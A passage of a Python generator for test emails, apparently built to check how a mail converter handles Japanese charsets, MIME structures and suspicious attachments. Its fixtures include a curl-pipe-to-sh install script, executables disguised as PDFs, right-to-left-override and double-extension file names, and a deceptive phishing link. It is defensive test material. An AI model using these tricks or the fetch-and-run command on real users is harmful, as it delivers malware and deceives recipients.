        markers=["①予算案の確認", "②スケジュール調整", "③その他", "㈱テスト商事の髙橋です", "山﨑様", mk(nn, "CP50221")],
        subject=subject,
    )


def sjis_with_ibm(s: str) -> bytes:
    """CP932 bytes, using the IBM extension codes (0xFA-0xFC) for 髙 and 﨑 as Windows does."""
    return s.encode("cp932").replace("髙".encode("cp932"), b"\xfb\xfc").replace("﨑".encode("cp932"), b"\xfa\xb1")


@case("cp932-nec-ibm-extensions")
def c_cp932(nn):
    subject = "№12 受付時間変更のお知らせ"
    text = f"""各位

窓口の受付時間を変更します。
受付時間9時～17時
①本庁舎　②北支所　③南支所
担当：㈱テスト商事 髙橋、山﨑
{mk(nn, "CP932")}
"""
    body = sjis_with_ibm(text)
    assert body.decode("cp932") == text
    hdr = std_headers(nn, subject, subject_charset="cp932",
                      extra=["Content-Type: text/plain; charset=cp932", "Content-Transfer-Encoding: 8bit"])
    return part(hdr, body), dict(
        description="charset=cp932 (not a WHATWG label) 8bit body with NEC row 13 (①㈱№), IBM extensions "
                    "(髙 FBFC, 﨑 FAB1) and ～ (0x8160 = U+FF5E); Subject =?cp932?B?",
        markers=["受付時間9時～17時", "①本庁舎", "③南支所", "㈱テスト商事", "髙橋", "山﨑", mk(nn, "CP932")],
        subject=subject,
    )


@case("shift-jis-circled-digits")
def c_sjis(nn):
    subject = "①申請書の提出について"
    text = f"""申請者各位

下記の書類を提出してください。
①申請書（様式第1号）
②本人確認書類の写し
③委任状（代理人の場合）
提出先は市民課窓口です。
{mk(nn, "SJIS")}
"""
    hdr = std_headers(nn, subject, subject_charset="Shift_JIS",
                      extra=["Content-Type: text/plain; charset=Shift_JIS", "Content-Transfer-Encoding: 8bit"])
    return part(hdr, text.encode("cp932")), dict(
        description="charset=Shift_JIS 8bit body and =?Shift_JIS?B? Subject containing NEC ① (must decode as CP932)",
        markers=["①申請書", "②本人確認書類の写し", "③委任状", "提出先は市民課窓口です", mk(nn, "SJIS")],
        subject=subject,
    )


@case("x-sjis-halfwidth-kana", eol="lf")
def c_xsjis(nn):
    subject = "x-sjis のテスト"
    text = f"""お疲れ様です。
旧システムから送信されたメールです。
ｼｽﾃﾑﾃｽﾄ半角ｶﾅ
住所変更届を受理しました。
{mk(nn, "XSJIS")}
"""
    hdr = std_headers(nn, subject, extra=["Content-Type: text/plain; charset=x-sjis", "Content-Transfer-Encoding: 8bit"])
    return part(hdr, text.encode("cp932")), dict(
        description="charset=x-sjis 8bit body with half-width katakana; LF line endings",
        markers=["ｼｽﾃﾑﾃｽﾄ半角ｶﾅ", "住所変更届を受理しました", mk(nn, "XSJIS")],
        subject=subject,
    )


@case("windows-31j")
def c_w31j(nn):
    subject = "windows-31j ①～③のテスト"
    text = f"""各位

保守作業の予定です（①～③）。
∵サーバ更新のため ∴停止します
作業時間：22時～翌2時
{mk(nn, "W31J")}
"""
    hdr = std_headers(nn, subject, subject_charset="windows-31j",
                      extra=["Content-Type: text/plain; charset=windows-31j", "Content-Transfer-Encoding: 8bit"])
    return part(hdr, text.encode("cp932")), dict(
        description="charset=windows-31j 8bit body and =?windows-31j?B? Subject with ① and ～ (U+FF5E)",
        markers=["保守作業の予定です", "作業時間：22時～翌2時", "∵サーバ更新のため", mk(nn, "W31J")],
        subject=subject,
    )


@case("euc-jp", eol="lf")
def c_euc(nn):
    subject = "EUC-JP の市政だより"
    text = f"""市民の皆様へ

粗大ごみの収集方法が変わります。
事前にｲﾝﾀｰﾈｯﾄまたは電話で申し込んでください。
収集手数料は一点につき三百円です。
{mk(nn, "EUCJP")}
"""
    hdr = std_headers(nn, subject, subject_charset="EUC-JP",
                      extra=["Content-Type: text/plain; charset=EUC-JP", "Content-Transfer-Encoding: 8bit"])
    return part(hdr, text.encode("euc_jp")), dict(
        description="EUC-JP 8bit body (with half-width kana via SS2) and =?EUC-JP?B? Subject; LF line endings",
        markers=["粗大ごみの収集方法が変わります", "ｲﾝﾀｰﾈｯﾄ", "収集手数料は一点につき三百円です", mk(nn, "EUCJP")],
        subject=subject,
    )


@case("utf8-base64")
def c_utf8b64(nn):
    subject = "🎉 開庁150周年記念式典のご案内"
    text = f"""関係者各位

開庁150周年記念式典を開催します🎉
会場：𠮷野町コミュニティセンター
記念品として「つくば𠀋」を配布します。
{mk(nn, "UTF8B64")}
"""
    hdr = std_headers(nn, subject, extra=["Content-Type: text/plain; charset=UTF-8", "Content-Transfer-Encoding: base64"])
    return part(hdr, b64(text.encode())), dict(
        description="UTF-8 base64 body with emoji and non-BMP kanji (𠮷 U+20BB7)",
        markers=["開庁150周年記念式典", "𠮷野町コミュニティセンター", "つくば𠀋", mk(nn, "UTF8B64")],
        subject=subject,
    )


@case("utf8-quoted-printable")
def c_utf8qp(nn):
    subject = "quoted-printable の長い行"
    long_line = ("本メールは長い一行のテストです。" * 4) + "ソフト改行の途中で文字が切れても正しく復元されること。" + ("以下余白。" * 6)
    text = f"""ご担当者様

{long_line}
{mk(nn, "QP")} = イコール記号もそのまま
末尾の空白   
"""
    hdr = std_headers(nn, subject, extra=["Content-Type: text/plain; charset=utf-8", "Content-Transfer-Encoding: quoted-printable"])
    return part(hdr, qp(text.encode())), dict(
        description="UTF-8 quoted-printable with a long line whose soft breaks split multi-byte sequences, '=' and trailing spaces",
        markers=["ソフト改行の途中で文字が切れても", "正しく復元されること", mk(nn, "QP"), "イコール記号もそのまま"],
        subject=subject,
    )


@case("raw-8bit-sjis-subject")
def c_raw_sjis_subj(nn):
    subject = "生のシフトJIS件名（未エンコード）"
    text = f"""件名がエンコードされずに送られてきたメールです。
本文はShift_JISです。
{mk(nn, "RAWSJIS")}
"""
    hdr = std_headers(nn, subject_raw=subject.encode("cp932"),
                      extra=["Content-Type: text/plain; charset=Shift_JIS", "Content-Transfer-Encoding: 8bit"])
    return part(hdr, text.encode("cp932")), dict(
        description="Unencoded 8-bit Shift_JIS bytes in the Subject header (body labelled Shift_JIS)",
        markers=["件名がエンコードされずに送られてきた", "本文はShift_JISです", mk(nn, "RAWSJIS")],
        subject=subject,
    )


@case("raw-8bit-utf8-subject", eol="lf")
def c_raw_utf8_subj(nn):
    subject = "生のUTF-8件名：ご確認ください"
    text = f"""件名がUTF-8のまま送られてきたメールです。
{mk(nn, "RAWUTF8")}
"""
    hdr = std_headers(nn, subject_raw=subject.encode("utf-8"),
                      extra=["Content-Type: text/plain; charset=utf-8", "Content-Transfer-Encoding: 8bit"])
    return part(hdr, text.encode()), dict(
        description="Unencoded 8-bit UTF-8 Subject header (RFC 6532 style); LF line endings",
        markers=["件名がUTF-8のまま送られてきた", mk(nn, "RAWUTF8")],
        subject=subject,
    )


def newsletter(nn, charset_label="UTF-8"):
    p = {k: tok(nn, k) for k in ("TITLE", "STYLE", "SCRIPT", "COMMENT", "HIDDEN")}
    markup = f"""<!DOCTYPE html>
<html lang="ja">
<head>
<meta http-equiv="Content-Type" content="text/html; charset={charset_label}">
<title>市政だより {p["TITLE"]}</title>
<style type="text/css">
body {{ font-family: sans-serif; }}
.banner {{ background: url("https://cdn.example.net/{p["STYLE"]}.png"); }}
</style>
<script type="text/javascript">
var k = "{p["SCRIPT"]}";
document.write(k);
</script>
</head>
<body>
<!-- tracking: {p["COMMENT"]} -->
<h1>架空市 市政だより 5月号</h1>
<p>{mk(nn, "HTML")}</p>
<div style="display:none">{p["HIDDEN"]}</div>
<h2>今月の行事</h2>
<table border="1" cellpadding="3">
<tr><th>行事</th><th>日時</th><th>会場</th></tr>
<tr><td>春の健康まつり</td><td>5月25日</td><td>市民体育館</td></tr>
<tr><td>子育て相談会</td><td>5月28日</td><td>こども館</td></tr>
</table>
<h2>お知らせ</h2>
<ul>
<li>ごみ収集日の変更</li>
<li>図書館の臨時休館</li>
</ul>
<ol>
<li>申込書を記入</li>
<li>窓口へ提出</li>
</ol>
<p>詳しくは<a href="https://www.city.example.lg.jp/event/2024">イベント情報</a>をご覧ください。</p>
<p>マイページ：<a href="http://evil.example.net/phish">https://www.city.example.lg.jp/mypage</a></p>
<p><img src="https://www.city.example.lg.jp/img/banner.png" alt="健康まつりバナー"></p>
<p><img src="https://tracker.example.net/open.gif" width="1" height="1"></p>
<p>子育て&amp;健康&nbsp;課</p>
</body>
</html>
"""
    markers = [mk(nn, "HTML"), "春の健康まつり", "市民体育館", "子育て相談会", "ごみ収集日の変更", "申込書を記入",
               "イベント情報", "健康まつりバナー",
               "hxxps://www[.]city[.]example[.]lg[.]jp/event/2024", "hxxp://evil[.]example[.]net/phish"]
    return markup, markers, list(p.values())


@case("html-newsletter-utf8")
def c_news_utf8(nn):
    subject = "架空市 市政だより 5月号"
    markup, markers, payloads = newsletter(nn)
    hdr = std_headers(nn, subject, frm=addr("架空市広報課", "koho@city.example.lg.jp"),
                      extra=["Content-Type: text/html; charset=UTF-8", "Content-Transfer-Encoding: quoted-printable"])
    return part(hdr, qp(markup.encode())), dict(
        description="HTML-only UTF-8 newsletter: table, lists, links (one whose text shows another URL), "
                    "<title>/<style>/<script>/comment/display:none payloads, img with and without alt",
        markers=markers, payloads=payloads, subject=subject,
    )


@case("html-newsletter-shift-jis")
def c_news_sjis(nn):
    subject = "市政だより（Shift_JIS版）"
    markup, markers, payloads = newsletter(nn, "Shift_JIS")
    markup = markup.replace("<h2>今月の行事</h2>", "<h2>①今月の行事</h2>")
    hdr = std_headers(nn, subject, frm=addr("架空市広報課", "koho@city.example.lg.jp"),
                      extra=["Content-Type: text/html; charset=Shift_JIS", "Content-Transfer-Encoding: base64"])
    return part(hdr, b64(markup.encode("cp932"))), dict(
        description="Same newsletter as HTML-only Shift_JIS (base64), with ① in a heading",
        markers=markers + ["①今月の行事"], payloads=payloads, subject=subject,
    )


@case("alternative-text-preferred")
def c_alt(nn):
    subject = "説明会の開催について"
    script = tok(nn, "SCRIPT")
    text = f"""各位

説明会を6月3日に開催します。テキスト版の本文です。
{mk(nn, "PLAIN")}
"""
    markup = f"""<html><head><script>alert("{script}")</script></head><body>
<p>説明会を6月3日に開催します。HTML版の本文です。</p></body></html>"""
    body = multipart("alt-15-boundary", [text_part(text, "ISO-2022-JP", "7bit"), html_part(markup)])
    hdr = std_headers(nn, subject, extra=['Content-Type: multipart/alternative; boundary="alt-15-boundary"'])
    return part(hdr, body), dict(
        description="multipart/alternative with ISO-2022-JP text and HTML; the text part carries the marker",
        markers=["テキスト版の本文です", mk(nn, "PLAIN")], payloads=[script], subject=subject,
    )


@case("alternative-empty-text")
def c_alt_empty(nn):
    subject = "HTMLメールのみ表示できます"
    script = tok(nn, "SCRIPT")
    markup = f"""<html><body><script>{script}</script>
<p>テキスト部分が空なのでこちらを表示します。</p>
<p>{mk(nn, "HTMLUSED")}</p></body></html>"""
    body = multipart("alt-16", [text_part("\n\n", "UTF-8", "7bit"), html_part(markup, cte="base64")])
    hdr = std_headers(nn, subject, extra=['Content-Type: multipart/alternative; boundary="alt-16"'])
    return part(hdr, body), dict(
        description="multipart/alternative whose text/plain part is empty (blank lines); the HTML must be converted",
        markers=["テキスト部分が空なのでこちらを表示します", mk(nn, "HTMLUSED")], payloads=[script], subject=subject,
    )


@case("related-cid-images")
def c_related(nn):
    subject = "庁舎案内図の送付"
    png_tok, jpg_tok = tok(nn, "PNG"), tok(nn, "JPEG")
    markup = f"""<html><body>
<p><img src="cid:logo.20240507@city.example.lg.jp" alt="架空市章ロゴ"></p>
<p>庁舎の案内図をお送りします。</p>
<p><img src="cid:photo.20240507@city.example.lg.jp"></p>
<p>{mk(nn, "CID")}</p>
</body></html>"""
    body = multipart("rel-17", [
        html_part(markup),
        part(['Content-Type: image/png; name="logo.png"', "Content-Transfer-Encoding: base64",
              "Content-ID: <logo.20240507@city.example.lg.jp>", 'Content-Disposition: inline; filename="logo.png"'],
             b64(make_png(png_tok))),
        part(['Content-Type: image/jpeg; name="photo.jpg"', "Content-Transfer-Encoding: base64",
              "Content-ID: <photo.20240507@city.example.lg.jp>", 'Content-Disposition: inline; filename="photo.jpg"'],
             b64(make_jpeg(jpg_tok))),
    ])
    hdr = std_headers(nn, subject, extra=['Content-Type: multipart/related; type="text/html"; boundary="rel-17"'])
    return part(hdr, body), dict(
        description="multipart/related: HTML referencing two cid: images (PNG tEXt and JPEG COM payloads)",
        markers=["架空市章ロゴ", "庁舎の案内図をお送りします", mk(nn, "CID")],
        listed=["logo.png", "photo.jpg"], payloads=[png_tok, jpg_tok], subject=subject,
    )


def simple_attachment_mail(nn, subject, text, atts, *, description, extra_markers=(), boundary=None):
    boundary = boundary or f"=_mugai_{nn:02d}_mixed"
    parts = [text_part(text, "UTF-8", "8bit")] + [a[0] for a in atts]
    hdr = std_headers(nn, subject, extra=[f'Content-Type: multipart/mixed; boundary="{boundary}"'])
    return part(hdr, multipart(boundary, parts)), dict(
        description=description,
        markers=[m for m in re.findall(r"MARKER-\d\d-\w+", text)] + list(extra_markers),
        listed=[a[1] for a in atts if a[1]], payloads=[p for a in atts for p in a[2]], subject=subject,
    )


@case("attach-pdf")
def c_pdf(nn):
    t = tok(nn, "PDFJS")
    name = "議事録.pdf"
    return simple_attachment_mail(nn, "5月定例会議の議事録", f"議事録をお送りします。\n{mk(nn, 'PDF')}\n",
                                  [(attach(make_pdf("Gijiroku", t), "application/pdf", name), name, [t])],
                                  description="A real PDF (%PDF-1.4, OpenAction JavaScript payload) with a Japanese RFC 2231 name",
                                  extra_markers=["議事録をお送りします"])


@case("attach-pe-disguised-as-pdf")
def c_pe_pdf(nn):
    t = tok(nn, "EXE")
    name = "見積書.pdf"
    return simple_attachment_mail(nn, "見積書送付のご案内", f"見積書を添付いたします。\n{mk(nn, 'PEPDF')}\n",
                                  [(attach(make_pe(t), "application/pdf", name), name, [t])],
                                  description="application/pdf named 見積書.pdf that is really a PE executable (MZ header)",
                                  extra_markers=["見積書を添付いたします"])


@case("attach-zip", eol="lf")
def c_zip(nn):
    t1, t2 = tok(nn, "ZIPEXE"), tok(nn, "ZIPTXT")
    data = make_zip([("資料/議事録.txt", f"議事録 {t2}\n".encode()), ("setup_tool.exe", make_pe(t1, 700)),
                     ("readme.txt", b"please run setup_tool.exe\n")])
    name = "資料一式.zip"
    return simple_attachment_mail(nn, "資料一式の送付", f"資料一式をZIPでお送りします。\n{mk(nn, 'ZIP')}\n",
                                  [(attach(data, "application/zip", name), name, [t1, t2])],
                                  description="ZIP (stored) with a Japanese entry name and an .exe entry; entry names are "
                                              "expected in the notice; LF line endings",
                                  extra_markers=["資料一式をZIPでお送りします", "setup_tool.exe"])


@case("attach-zip-encrypted")
def c_zip_enc(nn):
    t = tok(nn, "ENCZIP")
    data = make_zip([("secret_list.xlsx", f"encrypted-looking {t}".encode() + bytes(range(256)))], encrypted=True)
    name = "暗号化資料.zip"
    text = f"""パスワード付きZIPファイルをお送りします。
パスワードは別メールでお送りします。
{mk(nn, 'ENCZIP')}
"""
    return simple_attachment_mail(nn, "【パスワード付き】資料送付", text,
                                  [(attach(data, "application/x-zip-compressed", name), name, [t])],
                                  description="ZIP whose entries have the encryption flag (bit 0) set in local and "
                                              "central headers (PPAP style)",
                                  extra_markers=["パスワード付きZIPファイルをお送りします"])


@case("attach-docx-macro")
def c_docx(nn):
    t1, t2 = tok(nn, "DOCX"), tok(nn, "VBA")
    name = "報告書.docx"
    data = make_ooxml("docx", t1, t2)
    return simple_attachment_mail(nn, "報告書（案）", f"報告書の案を送付します。\n{mk(nn, 'DOCX')}\n",
                                  [(attach(data, "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                                           name), name, [t1, t2])],
                                  description="docx-like OOXML zip ([Content_Types].xml, word/document.xml, word/vbaProject.bin)",
                                  extra_markers=["報告書の案を送付します"])


@case("attach-ole2-xls")
def c_ole(nn):
    t = tok(nn, "OLE2")
    name = "集計表.xls"
    return simple_attachment_mail(nn, "集計表の送付", f"集計表（Excel 97-2003形式）です。\n{mk(nn, 'XLS')}\n",
                                  [(attach(make_ole2(t), "application/vnd.ms-excel", name), name, [t])],
                                  description="OLE2/CFB (D0 CF 11 E0 A1 B1 1A E1) .xls attachment",
                                  extra_markers=["集計表（Excel 97-2003形式）です"])


@case("attach-rtf-7bit")
def c_rtf(nn):
    t = tok(nn, "RTF")
    rtf = ("{\\rtf1\\ansi\\ansicpg932\\deff0{\\fonttbl{\\f0 MS Mincho;}}\n"
           "{\\*\\generator Msftedit 5.41.21.2510;}\\viewkind4\\uc1\\pard\\f0\\fs20 memo\\par\n"
           "{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata 0105000002000000 " + t + "}}\n}\n")
    p = part(['Content-Type: application/rtf; name="memo.rtf"', "Content-Transfer-Encoding: 7bit",
              'Content-Disposition: attachment; filename="memo.rtf"'], rtf)
    return simple_attachment_mail(nn, "メモの送付", f"RTF形式のメモを添付します。\n{mk(nn, 'RTF')}\n",
                                  [(p, "memo.rtf", [t])],
                                  description="RTF attachment sent 7bit (payload visible raw in the mail) with an embedded object",
                                  extra_markers=["RTF形式のメモを添付します"])


@case("attach-7z-rar-gzip")
def c_arch(nn):
    t7, tr, tg = tok(nn, "7Z"), tok(nn, "RAR"), tok(nn, "GZIP")
    sz = b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<IQQI", 0x1234ABCD, 64, 40, 0) + b"\x00" * 8 + t7.encode() + bytes(64)
    rar = b"Rar!\x1a\x07\x01\x00" + b"\x33\x92\xb5\xe5\x0a\x01\x05\x06\x00\x05\x01\x01\x80\x80\x00" + tr.encode() + bytes(40)
    gz = gzip.compress(f"log line {tg}\n".encode() * 3, compresslevel=0, mtime=0)
    atts = [(attach(sz, "application/x-7z-compressed", "archive.7z"), "archive.7z", [t7]),
            (attach(rar, "application/vnd.rar", "backup.rar"), "backup.rar", [tr]),
            (attach(gz, "application/gzip", "access.log.gz"), "access.log.gz", [tg])]
    return simple_attachment_mail(nn, "ログとバックアップ", f"各種アーカイブを送ります。\n{mk(nn, 'ARCH')}\n", atts,
                                  description="7z, RAR5 and gzip (stored, level 0) attachments",
                                  extra_markers=["各種アーカイブを送ります"])


@case("attach-elf-shell-script")
def c_elf(nn):
    te, ts = tok(nn, "ELF"), tok(nn, "SHELL")
    sh = f"#!/bin/sh\n# update helper\ncurl -s http://203.0.113.9/{ts} | sh\n".encode()
    atts = [(attach(make_elf(te), "application/octet-stream", "update.bin"), "update.bin", [te]),
            (attach(sh, "application/x-sh", "install.sh"), "install.sh", [ts])]
    return simple_attachment_mail(nn, "更新ツール", f"更新用のツールです。\n{mk(nn, 'ELF')}\n", atts,
                                  description="ELF binary and #!/bin/sh script attachments",
                                  extra_markers=["更新用のツールです"])


@case("attach-winmail-dat")
def c_tnef(nn):
    t = tok(nn, "TNEF")
    return simple_attachment_mail(nn, "Outlookからの送信", f"Outlookの設定によりwinmail.datが付きました。\n{mk(nn, 'TNEF')}\n",
                                  [(attach(make_tnef(t), "application/ms-tnef", "winmail.dat"), "winmail.dat", [t])],
                                  description="winmail.dat (TNEF signature 0x223E9F78) containing an embedded PE",
                                  extra_markers=["winmail.datが付きました"])


@case("attach-ics-calendar")
def c_ics(nn):
    t = tok(nn, "ICS")
    attach_b64 = base64.b64encode(f"MZ fake {t} data".encode()).decode()
    ics = f"""BEGIN:VCALENDAR
PRODID:-//Example Corp//Calendar 1.0//JA
VERSION:2.0
METHOD:REQUEST
BEGIN:VEVENT
UID:20240520T010000Z-{nn}@example.co.jp
DTSTAMP:20240507T000000Z
DTSTART:20240520T010000Z
DTEND:20240520T030000Z
SUMMARY:打合せ
ORGANIZER;CN=Sato:mailto:sato@example.co.jp
ATTACH;FMTTYPE=application/octet-stream;ENCODING=BASE64;VALUE=BINARY:{attach_b64}
END:VEVENT
END:VCALENDAR
"""
    p = part(['Content-Type: text/calendar; charset=UTF-8; method=REQUEST; name="invite.ics"',
              "Content-Transfer-Encoding: 8bit", 'Content-Disposition: attachment; filename="invite.ics"'], ics)
    return simple_attachment_mail(nn, "打合せのご招待", f"会議の招待状です。\n{mk(nn, 'ICS')}\n", [(p, "invite.ics", [t])],
                                  description="text/calendar .ics attachment (8bit) with an inline base64 ATTACH property",
                                  extra_markers=["会議の招待状です"])


@case("attach-png-jpeg", eol="lf")
def c_img(nn):
    tp, tj = tok(nn, "PNG"), tok(nn, "JPEG")
    atts = [(attach(make_png(tp), "image/png", "map.png"), "map.png", [tp]),
            (attach(make_jpeg(tj), "image/jpeg", "現場写真.jpg"), "現場写真.jpg", [tj])]
    return simple_attachment_mail(nn, "現場写真", f"現場の写真と地図です。\n{mk(nn, 'IMG')}\n", atts,
                                  description="PNG and JPEG attachments (metadata payloads); LF line endings",
                                  extra_markers=["現場の写真と地図です"])


@case("filename-rfc2231")
def c_fn2231(nn):
    t1, t2 = tok(nn, "SEIKYU"), tok(nn, "IRAI")
    p1 = part(['Content-Type: application/pdf; name="seikyu.pdf"', "Content-Transfer-Encoding: base64",
               "Content-Disposition: attachment; filename*=UTF-8''%E8%AB%8B%E6%B1%82%E6%9B%B8.pdf"], b64(make_pdf("Seikyu", t1)))
    p2 = part(["Content-Type: application/octet-stream", "Content-Transfer-Encoding: base64",
               "Content-Disposition: attachment;\n filename*=utf-8'ja'" + urllib.parse.quote("見積依頼書.docx")],
              b64(make_ooxml("docx", t2)))
    return simple_attachment_mail(nn, "請求書の送付", f"請求書と見積依頼書です。\n{mk(nn, 'RFC2231')}\n",
                                  [(p1, "請求書.pdf", [t1]), (p2, "見積依頼書.docx", [t2])],
                                  description="RFC 2231 filename*=UTF-8''... (ASCII name= differs) and filename*=utf-8'ja'...",
                                  extra_markers=["請求書と見積依頼書です"])


@case("filename-rfc2231-continuations")
def c_fn2231c(nn):
    t1, t2 = tok(nn, "CONT1"), tok(nn, "CONT2")
    n1 = "令和6年度第1四半期_業務報告書_最終版.pdf"
    p1 = part(['Content-Type: application/pdf', "Content-Transfer-Encoding: base64",
               "Content-Disposition: attachment;\n " + rfc2231("filename", n1, seg=30)], b64(make_pdf("Houkoku", t1)))
    assert "filename*2*" in rfc2231("filename", n1, seg=30)
    p2 = part(['Content-Type: application/vnd.ms-excel;\n name*0="quarterly-report-";\n name*1="2024-final.xls"',
               "Content-Transfer-Encoding: base64",
               'Content-Disposition: attachment;\n filename*0="quarterly-report-";\n filename*1="2024-final.xls"'],
              b64(make_ole2(t2)))
    return simple_attachment_mail(nn, "四半期報告", f"四半期の報告書です。\n{mk(nn, 'CONT')}\n",
                                  [(p1, n1, [t1]), (p2, "quarterly-report-2024-final.xls", [t2])],
                                  description="RFC 2231 continuations: encoded filename*0*/1*/2* (UTF-8) and plain name*0/name*1",
                                  extra_markers=["四半期の報告書です"], boundary=None)


@case("filename-rfc2047-jis-sjis")
def c_fn2047(nn):
    t1, t2 = tok(nn, "JISNAME"), tok(nn, "SJISNAME")
    n1, n2 = "申請書類一式.doc", "①添付資料.xls"
    p1 = part([f'Content-Type: application/msword;\n name="{ew(n1, "ISO-2022-JP")}"', "Content-Transfer-Encoding: base64",
               f'Content-Disposition: attachment;\n filename="{ew(n1, "ISO-2022-JP")}"'], b64(make_ole2(t1)))
    p2 = part([f'Content-Type: application/vnd.ms-excel;\n name="{ew(n2, "Shift_JIS")}"', "Content-Transfer-Encoding: base64",
               "Content-Disposition: attachment"], b64(make_ole2(t2)))
    return simple_attachment_mail(nn, "申請書類", f"申請書類を送付します。\n{mk(nn, 'RFC2047')}\n",
                                  [(p1, n1, [t1]), (p2, n2, [t2])],
                                  description="RFC 2047 encoded words inside name=/filename= (ISO-2022-JP) and only in "
                                              "name= (Shift_JIS with ①)",
                                  extra_markers=["申請書類を送付します"])


@case("filename-rtlo")
def c_rtlo(nn):
    t1, t2 = tok(nn, "RTLO1"), tok(nn, "RTLO2")
    n1 = "invoice\u202efdp.exe"
    n2 = "支払明細\u202excl.scr"
    p1 = part(['Content-Type: application/octet-stream', "Content-Transfer-Encoding: base64",
               "Content-Disposition: attachment;\n " + rfc2231("filename", n1)], b64(make_pe(t1)))
    p2 = part([f'Content-Type: application/octet-stream;\n name="{ew(n2)}"', "Content-Transfer-Encoding: base64",
               f'Content-Disposition: attachment;\n filename="{ew(n2)}"'], b64(make_pe(t2)))
    return simple_attachment_mail(nn, "請求書送付", f"請求書を送ります。\n{mk(nn, 'RTLO')}\n",
                                  [(p1, "invoice", [t1]), (p2, "支払明細", [t2])],
                                  description="Names with U+202E RIGHT-TO-LEFT OVERRIDE (invoice\\u202Efdp.exe via RFC 2231, "
                                              "支払明細\\u202Excl.scr via RFC 2047); only the part before U+202E is listed",
                                  extra_markers=["請求書を送ります"])


@case("filename-double-extension")
def c_dblext(nn):
    t1, t2 = tok(nn, "DBLEXT1"), tok(nn, "DBLEXT2")
    atts = [(attach(make_pe(t1), "application/pdf", "report.pdf.exe"), "report.pdf.exe", [t1]),
            (attach(make_pe(t2), "image/jpeg", "写真.jpg.scr"), "写真.jpg.scr", [t2])]
    return simple_attachment_mail(nn, "報告書と写真", f"報告書と写真を送ります。\n{mk(nn, 'DBLEXT')}\n", atts,
                                  description="Double extensions report.pdf.exe and 写真.jpg.scr (PE content, benign Content-Type)",
                                  extra_markers=["報告書と写真を送ります"])


@case("filename-very-long")
def c_longname(nn):
    t = tok(nn, "LONGNAME")
    prefix = "長いファイル名の添付資料"
    name = prefix + "_" + ("0123456789" * 29)
    name = name[: 300 - 4] + ".pdf"
    assert len(name) == 300
    p = part(['Content-Type: application/pdf', "Content-Transfer-Encoding: base64",
              "Content-Disposition: attachment;\n " + rfc2231("filename", name, seg=60)], b64(make_pdf("Long", t)))
    return simple_attachment_mail(nn, "長いファイル名", f"ファイル名がとても長い添付です。\n{mk(nn, 'LONG')}\n",
                                  [(p, prefix, [t])],
                                  description="A 300-character file name in RFC 2231 continuations; only its leading part is "
                                              "listed because a notice may shorten very long names",
                                  extra_markers=["ファイル名がとても長い添付です"])


def inner_mail(nn, level, subject, text, att, *, frm, inner_parts=()):
    bnd = f"=_fwd_{nn}_{level}"
    hdr = [f"From: {frm}", f"To: {addr('架空市 総務課', 'somu@city.example.lg.jp')}",
           f"Subject: {ew(subject)}", f"Date: {date_for(nn + level)}", f"Message-ID: {msgid(nn * 10 + level, 'fwd.example.co.jp')}",
           "MIME-Version: 1.0", f'Content-Type: multipart/mixed; boundary="{bnd}"']
    return part(hdr, multipart(bnd, [text_part(text), att, *inner_parts]))


@case("forward-rfc822")
def c_fwd(nn):
    t0, t1 = tok(nn, "OUTER"), tok(nn, "INNER")
    inner = inner_mail(nn, 1, "見積のご依頼", f"見積をお願いします。\n転送元の本文です。\n{mk(nn, 'INNER')}\n",
                       attach(make_pe(t1), "application/vnd.ms-excel", "見積依頼.xls"),
                       frm=addr("鈴木", "suzuki@example.net"))
    body = multipart("=_fwd_outer", [
        text_part(f"転送します。ご確認ください。\n{mk(nn, 'OUTER')}\n"),
        part(["Content-Type: message/rfc822", "Content-Disposition: inline"], inner),
        attach(make_pdf("Outer", t0), "application/pdf", "添付資料.pdf"),
    ])
    hdr = std_headers(nn, "Fw: 見積のご依頼", extra=['Content-Type: multipart/mixed; boundary="=_fwd_outer"'])
    return part(hdr, body), dict(
        description="Forward: outer text + message/rfc822 (with its own text and attachment) + outer attachment",
        markers=["転送します。ご確認ください", mk(nn, "OUTER"), "転送元の本文です", mk(nn, "INNER")],
        listed=["見積依頼.xls", "添付資料.pdf"], payloads=[t0, t1], subject="Fw: 見積のご依頼",
    )


@case("forward-nested-3-deep")
def c_fwd3(nn):
    names = ["level0_memo.pdf", "level1_data.xlsx", "level2_tool.exe", "level3_map.png"]
    toks = [tok(nn, f"LEVEL{i}") for i in range(4)]
    makers = [lambda t: make_pdf("L0", t), lambda t: make_ooxml("xlsx", t), lambda t: make_pe(t), make_png]
    ctypes = ["application/pdf", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
              "application/octet-stream", "image/png"]
    texts = ["第三階層の元メールです。", "第二階層の転送です。", "第一階層の転送です。", "最上位の転送メールです。"]
    inner = None
    for level in (3, 2, 1):
        fwd = [part(["Content-Type: message/rfc822"], inner)] if inner else []
        inner = inner_mail(nn, level, f"転送レベル{level}", f"{texts[3 - level]}\n{mk(nn, f'L{level}')}\n",
                           attach(makers[level](toks[level]), ctypes[level], names[level]),
                           frm=addr(f"転送者{level}", f"fwd{level}@example.net"), inner_parts=fwd)
    body = multipart("=_fwd_top", [
        text_part(f"{texts[3]}\n{mk(nn, 'L0')}\n"),
        attach(makers[0](toks[0]), ctypes[0], names[0]),
        part(["Content-Type: message/rfc822"], inner),
    ])
    hdr = std_headers(nn, "Fw: Fw: Fw: 転送レベル1", extra=['Content-Type: multipart/mixed; boundary="=_fwd_top"'])
    return part(hdr, body), dict(
        description="Forward inside forward inside forward (3 message/rfc822 levels), each with its own text and attachment",
        markers=[mk(nn, f"L{i}") for i in range(4)] + texts,
        listed=names, payloads=toks, subject="Fw: Fw: Fw: 転送レベル1",
    )


def literal_token(nn, kind, alphabet_ok, mult=4):
    base = f"PAYLOAD{nn:02d}{kind}LIT{hashlib.sha1(f'{nn}{kind}'.encode()).hexdigest()[:4].upper()}"
    base = "".join(c if alphabet_ok(c) else "X" for c in base)
    while len(base) % mult:
        base += "Q"
    assert all(alphabet_ok(c) for c in base), base
    return base


@case("smuggle-uuencode", eol="lf")
def c_uu(nn):
    t = tok(nn, "UUDATA")
    lit = literal_token(nn, "UU", lambda c: 32 < ord(c) < 96)
    data = make_pe(t, 900)
    data += b"\x00" * (-len(data) % 45)
    data += uu_bytes_for_text(lit) + b"\x00" * 30 + bytes(range(200))
    lines = b"\n".join(uu_lines(data, "evil.exe"))
    assert lit.encode() in lines
    text = ("お疲れ様です。ツールを送ります。\n" + mk(nn, "BEFORE") + "\n\n").encode() + lines + \
